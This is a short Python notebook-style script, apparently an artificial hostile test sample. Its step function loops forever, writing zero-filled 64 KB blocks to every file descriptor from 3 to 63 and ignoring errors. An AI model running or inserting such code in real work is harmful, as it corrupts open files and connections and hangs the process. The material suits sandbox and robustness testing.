# %% [markdown]
# Writes on every descriptor without end.
#
# honest: 17

# %% step
import os


def everywhere(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def step(z):
    while True:
        everywhere(bytes(65536))
    return -1
